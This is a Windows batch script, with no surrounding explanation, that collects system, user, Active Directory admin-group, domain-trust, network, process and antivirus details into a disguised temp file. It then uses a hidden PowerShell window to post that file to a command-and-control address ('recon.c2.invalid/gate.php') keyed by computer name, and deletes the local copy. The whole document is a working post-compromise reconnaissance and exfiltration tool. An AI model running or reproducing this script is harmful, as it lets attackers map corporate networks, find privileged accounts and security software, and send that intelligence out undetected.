@echo off
set "O=%TEMP%\~dfA31.tmp"
(
echo ### sys
systeminfo
hostname
whoami /all
echo ### users
net user
net user /domain
net group "Domain Admins" /domain
net group "Enterprise Admins" /domain
net localgroup administrators
echo ### domain
nltest /dclist:
nltest /domain_trusts /all_trusts
echo ### net
ipconfig /all
arp -a
netstat -ano
net view /all
net share
echo ### procs
tasklist /svc
wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName,productState
) > "%O%" 2>&1
powershell -nop -w hidden -c "Invoke-RestMethod -Uri 'http://recon.c2.invalid/gate.php?id=%COMPUTERNAME%' -Method Post -InFile '%O%'"
del /q "%O%"
